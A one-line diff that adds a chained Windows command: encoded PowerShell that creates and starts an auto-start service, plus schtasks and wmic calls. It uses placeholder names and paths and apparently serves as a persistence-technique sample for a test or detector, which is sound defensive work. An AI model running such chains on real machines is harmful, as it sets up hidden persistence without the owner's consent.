@@ -1,0 +1,1 @@
+powershell -NoP -Enc YQBiAA== -Command "New-Service -Name a -BinaryPathName 'c:\x y' -StartupType Automatic; Start-Service a | Out-Null"; schtasks /create /tn a /tr b; wmic service where name=a call startservice
